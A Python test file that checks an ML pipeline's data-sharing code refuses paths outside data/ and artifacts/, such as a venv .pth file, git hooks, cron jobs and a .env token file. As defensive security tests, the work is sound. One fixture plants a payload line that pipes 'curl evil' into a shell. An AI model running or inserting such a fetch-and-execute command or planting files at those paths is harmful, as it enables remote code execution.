"""A cell's data files cross machines only from and into the checkout's data/ and artifacts/ folders: a config naming
``.venv/.../site-packages/zz.pth`` would otherwise have a worker write code from the store into its own venv."""

from __future__ import annotations

from pathlib import Path

import pytest

from corewarding.pipeline.cells import CellPlan, Selection, plan_cells
from corewarding.pipeline.store.sharing import (
    DataPathError,
    checkout_data_path,
    fetch_data_files,
    share_data_files,
    shared_paths,
)
from corewarding.pipeline.store.transport import ArtifactStore, StoreError

VENV = ".venv/lib/python3.11/site-packages"
RULE = "a shared data file lies under the checkout's data/ or artifacts/ folder"


@pytest.mark.parametrize("rel", ["data/math/train.parquet", "artifacts/tiny-data/test.parquet", "data/a/b/c.jsonl"])
def test_data_and_artifacts_paths_are_accepted(rel: str) -> None:
    assert checkout_data_path(Path(rel)) == Path(rel)


@pytest.mark.parametrize(
    "rel",
    [
        f"{VENV}/zz.pth",
        f"data/../{VENV}/zz.pth",
        "data/.venv/zz.pth",
        "artifacts/lib/site-packages/zz.pth",
        "data/.git/hooks/post-checkout",
        "data/.hidden.parquet",
        "runs/cell/config.yaml",
        "src/corewarding/__init__.py",
        "data",
        "/etc/cron.d/job",
    ],
)
def test_any_other_path_is_refused_with_one_line_naming_it(rel: str) -> None:
    with pytest.raises(DataPathError) as refused:
        checkout_data_path(Path(rel))
    text = str(refused.value)
    assert isinstance(refused.value, StoreError) and "\n" not in text
    assert f"{Path(rel)} is refused" in text and RULE in text


def hostile_plan() -> CellPlan:
    """The demo's first cell with its data folder moved into the venv (what a hostile config could say)."""
    [plan] = plan_cells(Selection(matrix="demo", cells=("gt_grpo__tiny__tiny",)), [f"paths.artifacts_dir={VENV}"])
    return plan


def test_a_worker_never_fetches_a_data_file_into_the_venv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    store = ArtifactStore(str(tmp_path / "store"))
    planted = f"data/{VENV}/tiny-data/train.parquet"
    store.write_bytes(planted, b"import os; os.system('curl evil | sh')\n")
    store.write_bytes(f"{planted}.sha256", b"0" * 64)
    plan = hostile_plan()
    with pytest.raises(DataPathError) as refused:
        fetch_data_files(store, plan)
    text = str(refused.value)
    assert "\n" not in text and f"gt_grpo__tiny__tiny (data): {VENV}/tiny-data/train.parquet is refused" in text
    assert not (tmp_path / ".venv").exists()
    with pytest.raises(DataPathError):
        shared_paths([plan])


def test_the_parent_never_shares_a_file_from_outside_the_data_roots(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    store = ArtifactStore(str(tmp_path / "store"))
    good, bad = Path("data/tiny/train.parquet"), Path(".env")
    for path in (good, bad):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"HF_TOKEN=hf_secret" if path == bad else b"rows")
    with pytest.raises(DataPathError) as refused:
        share_data_files(store, [good, bad])
    assert ".env is refused" in str(refused.value) and "hf_secret" not in str(refused.value)
    assert not (tmp_path / "store").exists()  # checked before anything is copied, the good file included


def test_the_run_hands_on_the_stores_resolved_folder_once(tmp_path: Path) -> None:
    """The parent resolves the configured store once and every job names that folder: a link retargeted afterwards
    (to an attacker's folder) changes nothing that was handed on."""
    from corewarding.pipeline.settings import load_settings
    from corewarding.pipeline.store.sharing import store_url

    real, attacker, link = tmp_path / "store", tmp_path / "attacker", tmp_path / "link"
    real.mkdir()
    attacker.mkdir()
    link.symlink_to(real)
    handed = store_url(load_settings([f"store.url={link}"]), tmp_path)
    assert handed == str(real)
    link.unlink()
    link.symlink_to(attacker)
    ArtifactStore(str(handed)).write_bytes("reports/x.json", b"{}")
    assert (real / "reports" / "x.json").is_file() and list(attacker.iterdir()) == []
